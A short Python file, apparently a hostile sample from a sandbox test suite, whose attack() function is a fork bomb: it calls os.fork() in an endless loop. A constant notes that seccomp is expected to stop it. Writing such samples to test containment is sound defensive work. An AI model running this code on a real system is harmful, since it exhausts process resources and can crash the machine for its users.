"""Starts processes that start processes."""

import os

STOPPED_BY = "seccomp"


def attack(target):
    while True:
        os.fork()
